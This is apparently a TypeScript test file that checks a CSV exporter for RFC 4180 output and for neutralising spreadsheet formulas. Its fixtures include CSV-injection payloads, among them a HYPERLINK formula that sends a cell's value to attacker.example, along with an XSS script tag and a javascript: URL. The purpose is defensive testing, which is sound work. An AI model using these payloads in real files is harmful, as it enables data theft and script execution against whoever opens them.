// CSV export: RFC 4180 as a real parser reads it, and spreadsheet formulas neutralised.
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { CSV_COLUMNS, csvRows, exportArticles, neutralise } from '../../src/core/export/index.js';
import fc from 'fast-check';
import { factsOnlyInput, fixtureInput } from '../fixtures/export/load.js';

// What a spreadsheet may take for a formula: a sign after any white space or invisible characters, ASCII or full-width.
const FORMULA_START = /^(?:[\t\r]|[\s\u200b-\u200d\u2060\ufeff]*[=+\-@＝＋－＠﹦﹢﹣])/;

function parseCsv(content: string): string[][] {
  // Strict: CRLF records only, quotes exactly as RFC 4180 says; the BOM is expected and dropped.
  return parse(content, { bom: true, record_delimiter: ['\r\n'], relax_quotes: false, relax_column_count: false }) as string[][];
}

describe('export: csv', () => {
  const inputs = [fixtureInput('formulas'), fixtureInput('hostile')];
  const content = exportArticles('csv', inputs).content;

  it('parses back with csv-parse into exactly the cells that were written', () => {
    const expected = csvRows(inputs).map((row) => row.map(neutralise));
    assert.deepEqual(parseCsv(content), expected);
    assert.deepEqual(parseCsv(content)[0], [...CSV_COLUMNS]);
  });

  it('is RFC 4180: UTF-8 BOM, CRLF after every record, no bare line feed outside quoted fields', () => {
    assert.ok(content.startsWith('\uFEFF'));
    assert.ok(content.endsWith('\r\n'));
    // Remove quoted fields; what is left may only break lines with CRLF.
    const outside = content.replace(/"(?:[^"]|"")*"/g, '');
    assert.equal(/[^\r]\n|\r[^\n]/.test(outside), false);
    assert.equal(content.split('\r\n').length > inputs.length, true);
  });

  it('neutralises cells starting with = + - @ tab and CR with a leading single quote', () => {
    const rows = parseCsv(exportArticles('csv', [fixtureInput('formulas')]).content);
    const col = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
    const byFact = (id: string) => rows.find((r) => r[col('fact_id')] === id && r[col('kind')] === 'claim');
    const f1 = byFact('f1');
    const f2 = byFact('f2');
    const f3 = byFact('f3');
    const f4 = byFact('f4');
    assert.ok(f1 && f2 && f3 && f4, 'a row per claim fact');
    // The text cell is the detected claim's text (the sentence), so only its start is fixed here.
    assert.ok(f1[col('text')].startsWith(`'=HYPERLINK("http://attacker.example/steal?c="&A1, "Click for the figures") was pasted`));
    assert.equal(f1[col('speaker')], "'@SUM(B1:B2)");
    assert.equal(f1[col('source_titles')], `'=HYPERLINK("http://attacker.example","Ledger")`);
    assert.equal(f1[col('note')], "'+44 20 7946 0000 confirmed it");
    assert.equal(f1[col('checked_by')], "'=1+1");
    assert.ok(f2[col('text')].startsWith("'+1 percent was the growth"));
    assert.equal(f2[col('note')], "'\tTabbed note");
    assert.ok(f3[col('text')].startsWith("'-2 degrees was the coldest reading"));
    assert.equal(f3[col('source_titles')], "'-2 station log");
    assert.equal(f3[col('note')], "'\rCarriage return note");
    assert.ok(f4[col('text')].startsWith("'@SUM(A1:A9) appeared in the budget table"));
    assert.equal(f4[col('note')], 'Said "maybe", then, later, "no"');
    for (const row of rows) for (const cell of row) assert.doesNotMatch(cell, FORMULA_START, `cell ${JSON.stringify(cell)} could run as a formula`);
  });

  it('neutralises a formula behind leading white space, invisible characters or a full-width sign', () => {
    // LibreOffice 7.4 with "Trim spaces" evaluates " =1+1" (docs/exports.md has the measurement); other importers
    // trim other white space or fold full-width forms, so every such start counts.
    const leads = ['', ' ', '  ', '\u00a0', '\u3000', '\n', '\r\n', '\t', '\r', '\u2002', '\u200b', '\ufeff', ' \u3000\n'];
    const formulas = ['=1+1', '=HYPERLINK("http://attacker.example/?x";"Click")', '+1+1', '-1+1', '@SUM(1;1)', '\uff1d1+1', '\uff0b1', '\uff0d1', '\uff20SUM(A1)', '\ufe661+1'];
    for (const lead of leads) {
      for (const formula of formulas) assert.equal(neutralise(lead + formula), `'${lead}${formula}`, JSON.stringify(lead + formula));
    }
    for (const harmless of [' leading space', '\u3000全角', '\nline', 'a=1+1', 'x \uff1d y', "' =1+1"]) assert.equal(neutralise(harmless), harmless);
    // OWASP's tab and CR are quoted whatever follows.
    for (const lead of ['\tnote', '\rnote']) assert.equal(neutralise(lead), `'${lead}`);
  });

  it('leaves ordinary cells alone and keeps several sources in one cell, one per line', () => {
    assert.equal(neutralise('Kishida said'), 'Kishida said');
    assert.equal(neutralise("'already quoted"), "'already quoted");
    assert.equal(neutralise(''), '');
    const rows = parseCsv(exportArticles('csv', [fixtureInput('hostile')]).content);
    const f1 = rows.find((r) => r[CSV_COLUMNS.indexOf('fact_id')] === 'f1');
    assert.equal(f1?.[CSV_COLUMNS.indexOf('source_titles')], '<script>window.__pwned = true</script>Audit\nHarbour statistics');
    assert.equal(f1?.[CSV_COLUMNS.indexOf('source_urls')], "javascript:alert('source')\nhttps://stats.example.org/harbour?a=1&b=2");
  });

  it('gives each row the article line of its text and the file it came from', () => {
    const input = fixtureInput('formulas');
    const rows = parseCsv(exportArticles('csv', [input]).content).slice(1);
    for (const row of rows) {
      const line = Number(row[CSV_COLUMNS.indexOf('line')]);
      const text = row[CSV_COLUMNS.indexOf('text')].replace(/^'/, '');
      assert.equal(row[CSV_COLUMNS.indexOf('file')], 'formulas.md');
      assert.ok(input.text.split('\n')[line - 1].includes(text.split('\n')[0]), `line ${line} holds ${text}`);
    }
  });

  it('round-trips any text in any cell, neutralised (property test)', () => {
    const base = factsOnlyInput('formulas');
    const cell = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', "'", 'a', ' ', '’', '😀') , maxLength: 12 });
    fc.assert(
      fc.property(cell, cell, cell, (note, speaker, checkedBy) => {
        const facts = { ...base.facts!, facts: base.facts!.facts.map((f) => (f.id === 'f2' ? { ...f, note, speaker, checkedBy } : f)) };
        const rows = parseCsv(exportArticles('csv', [{ ...base, facts }]).content);
        const row = rows.find((r) => r[CSV_COLUMNS.indexOf('fact_id')] === 'f2');
        assert.ok(row);
        assert.equal(row[CSV_COLUMNS.indexOf('note')], neutralise(note));
        assert.equal(row[CSV_COLUMNS.indexOf('speaker')], neutralise(speaker));
        assert.equal(row[CSV_COLUMNS.indexOf('checked_by')], neutralise(checkedBy));
        for (const r of rows) for (const c of r) assert.doesNotMatch(c, FORMULA_START);
      }),
      { numRuns: 300 },
    );
  });
});
